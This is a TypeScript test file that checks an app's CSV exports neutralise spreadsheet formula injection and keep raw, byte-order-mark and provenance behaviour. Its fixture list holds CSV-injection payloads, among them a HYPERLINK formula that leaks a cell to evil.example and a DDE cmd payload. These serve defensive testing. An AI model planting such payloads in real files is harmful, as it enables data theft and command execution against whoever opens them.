// Spreadsheet-safe exports: a text value that starts with a formula trigger (=, +, -, @, tab, CR)
// reaches the CSV with a leading ' (OWASP, "CSV Injection"), `raw=1` gives every value byte for
// byte, `bom=1` a UTF-8 byte-order mark; each export still equals the list's pages (csv-parse),
// and list items and exports carry the run, answer and prompt they came from.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newId } from '../../src/core/kernel/ids.ts';
import { seedAccount, startTestApp, type TestApp } from '../support/app.ts';
import { runCliText } from '../support/cli.ts';
import { seedRuns } from '../support/seed-data.ts';

let app: TestApp;
let seeded: Awaited<ReturnType<typeof seedAccount>>;
let slug: string;
let runId: string;
let answerId: string;

/** Third-party text as engines return it: titles and excerpts a spreadsheet would run as formulas. */
const hostile = [
  '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1\n=2',
  'Naïve café ✓, "quoted"',
  'a = b',
];

beforeAll(async () => {
  app = await startTestApp();
  seeded = await seedAccount(app.services);
  slug = seeded.projects[0].slug;
  const projectId = seeded.projects[0].id;
  const accountId = seeded.account.id;
  [runId] = await seedRuns(app.services, projectId, [new Date('2026-05-01T00:00:00Z')], { findingsPerRun: 1 });
  const { db } = app.services;
  const promptId = newId('trackedPrompt');
  await db.trackedPrompt.create({ data: { id: promptId, accountId, projectId, text: '=which CRM, "best" for agencies?' } });
  answerId = newId('engineAnswer');
  await db.engineAnswer.create({
    data: {
      id: answerId,
      accountId,
      projectId,
      auditRunId: runId,
      trackedPromptId: promptId,
      engine: 'CLAUDE',
      status: 'ANSWERED',
      promptText: 'asked',
    },
  });
  const observed = (i: number) => ({
    accountId,
    projectId,
    auditRunId: runId,
    engineAnswerId: answerId,
    trackedPromptId: promptId,
    engine: 'CLAUDE' as const,
    observedAt: new Date(Date.UTC(2026, 4, 1, 0, i)),
  });
  await db.citation.createMany({
    data: hostile.map((title, i) => ({
      id: newId('citation'),
      ...observed(i),
      url: `https://site.example/${i}`,
      normalizedUrl: `https://site.example/${i}`,
      host: 'site.example',
      title,
      position: i + 1,
      isClientDomain: false,
      isCompetitorDomain: false,
      citationConfidence: 80,
      matchedEntity: i === 2 ? '-Rival' : null,
    })),
  });
  await db.mention.createMany({
    data: hostile.map((context, i) => ({
      id: newId('mention'),
      ...observed(i),
      name: i === 3 ? '@brand' : 'Rival',
      normalizedName: 'rival',
      kind: 'COMPETITOR' as const,
      role: 'LISTED' as const,
      mentionConfidence: 80,
      context,
    })),
  });
  // A citation of a prompt removed since (its answer's text stands in) and one with no answer at all (history).
  await db.citation.create({
    data: {
      id: newId('citation'),
      accountId,
      projectId,
      engine: 'GROK',
      observedAt: new Date('2026-04-01T00:00:00Z'),
      url: 'https://old.example/',
      normalizedUrl: 'https://old.example/',
      host: 'old.example',
      position: 1,
      isClientDomain: false,
      isCompetitorDomain: false,
      citationConfidence: 80,
    },
  });
});
afterAll(async () => app?.close());

const get = (p: string) => fetch(`${app.url}${p}`, { headers: { authorization: `Bearer ${seeded.key}` } });
/** A body's text with its byte-order mark, if any (Response.text() drops it, as a browser's decoder does). */
const bytesOf = async (p: string) => Buffer.from(await (await get(p)).arrayBuffer()).toString('utf8');
type Item = Record<string, string | number | boolean | null>;
const list = async (kind: string) => ((await (await get(`/api/v1/projects/${slug}/${kind}?limit=100`)).json()) as { data: Item[] }).data;
const rows = (csv: string) => parse<Record<string, string>>(csv, { columns: true, bom: true });
/** A list item as its CSV row reads: null empty, everything else as text. */
const asRow = (item: Item, neutralise: boolean) =>
  Object.fromEntries(
    Object.entries(item).map(([k, v]) => [
      k,
      v === null ? '' : typeof v === 'string' && neutralise && /^[=+\-@\t\r]/.test(v) ? `'${v}` : String(v),
    ]),
  );

describe('list items carry where they came from', () => {
  it('citations and mentions name their run, answer, prompt and its text; history without them says null', async () => {
    const citations = await list('citations');
    expect(citations[0]).toMatchObject({
      auditRunId: runId,
      answerId,
      promptId: expect.stringMatching(/^prm_/),
      promptText: '=which CRM, "best" for agencies?',
    });
    expect(citations.at(-1)).toMatchObject({ auditRunId: null, answerId: null, promptId: null, promptText: null });
    const mentions = await list('mentions');
    expect(mentions.every((m) => m.answerId === answerId && m.auditRunId === runId)).toBe(true);
    // A prompt removed since: the mention keeps the text its answer was asked.
    await app.services.db.trackedPrompt.deleteMany({ where: { projectId: seeded.projects[0].id } });
    const after = await list('mentions');
    expect(after[0]).toMatchObject({ promptId: null, promptText: 'asked' });
    const g = await fetch(`${app.url}/graphql`, {
      method: 'POST',
      headers: { authorization: `Bearer ${seeded.key}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        query: `{ project(slug: "${slug}") { mentions(first: 1) { edges { node { auditRunId answerId promptId promptText } } } } }`,
      }),
    });
    const node = ((await g.json()) as { data: { project: { mentions: { edges: { node: Item }[] } } } }).data.project.mentions.edges[0].node;
    expect(node).toEqual({ auditRunId: runId, answerId, promptId: null, promptText: 'asked' });
  });
});

describe('CSV exports are safe to open in a spreadsheet', () => {
  it('puts a quote before every value that starts with a formula trigger, and nothing else changes', async () => {
    for (const kind of ['citations', 'mentions']) {
      const items = await list(kind);
      const res = await get(`/api/v1/projects/${slug}/${kind}.csv`);
      expect(res.status).toBe(200);
      const body = await res.text();
      expect(body.charCodeAt(0)).not.toBe(0xfeff);
      const parsed = rows(body);
      expect(parsed).toEqual(items.map((i) => asRow(i, true)));
      const field = kind === 'citations' ? 'title' : 'context';
      const values = parsed.map((r) => r[field]);
      for (const v of hostile.slice(0, 7)) expect(values, JSON.stringify(v)).toContain(`'${v}`);
      for (const v of hostile.slice(7)) expect(values).toContain(v);
      // No cell of the file starts with a trigger: a spreadsheet runs none of them.
      expect(parsed.flatMap((r) => Object.values(r)).filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
      // NDJSON is JSON: the values as they are.
      const nd = (await (await get(`/api/v1/projects/${slug}/${kind}.ndjson`)).text()).trimEnd().split('\n');
      expect(nd.map((l) => JSON.parse(l) as Item)).toEqual(items);
    }
    expect(rows(await (await get(`/api/v1/projects/${slug}/citations.csv`)).text()).find((r) => r.matchedEntity)?.matchedEntity).toBe(
      "'-Rival",
    );
  });

  it('raw=1 round-trips every value byte for byte; bom=1 starts the file with EF BB BF', async () => {
    const items = await list('citations');
    const raw = await (await get(`/api/v1/projects/${slug}/citations.csv?raw=1`)).text();
    expect(rows(raw)).toEqual(items.map((i) => asRow(i, false)));
    const bom = await get(`/api/v1/projects/${slug}/citations.csv?bom=1&raw=true`);
    const bytes = Buffer.from(await bom.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.subarray(3).toString('utf8')).toBe(raw);
    expect(rows(bytes.toString('utf8'))).toEqual(items.map((i) => asRow(i, false)));
    const safeWithBom = await bytesOf(`/api/v1/projects/${slug}/citations.csv?bom=1&raw=0`);
    expect(safeWithBom).toBe(`\uFEFF${await (await get(`/api/v1/projects/${slug}/citations.csv`)).text()}`);
    // NDJSON has no byte-order mark and nothing to neutralise.
    const nd = await (await get(`/api/v1/projects/${slug}/citations.ndjson?bom=1`)).text();
    expect(nd.charCodeAt(0)).toBe('{'.charCodeAt(0));
    for (const q of ['raw=yes', 'bom=2', 'raw=']) {
      const res = await get(`/api/v1/projects/${slug}/citations.csv?${q}`);
      expect(res.status, q).toBe(400);
      expect(await res.json()).toEqual({ error: 'invalid_export_option' });
    }
  });

  it('bin/visibility export writes the same bytes, --raw and --bom included', async () => {
    const email = seeded.account.email;
    for (const [flags, query] of [
      [[], ''],
      [['--raw'], 'raw=1'],
      [['--bom'], 'bom=1'],
    ] as const) {
      const cli = await runCliText(app.databaseUrl, ['export', '--account', email, '--project', slug, 'mentions', ...flags]);
      expect(cli.code, cli.stderr).toBe(0);
      expect(cli.stdout).toBe(await bytesOf(`/api/v1/projects/${slug}/mentions.csv?${query}`));
    }
    const wrong = await runCliText(app.databaseUrl, [
      'export',
      '--account',
      email,
      '--project',
      slug,
      'mentions',
      '--format',
      'ndjson',
      '--bom',
    ]);
    expect(wrong.code).toBe(1);
    expect(wrong.stderr).toMatch(/apply to CSV only/);
  });
});
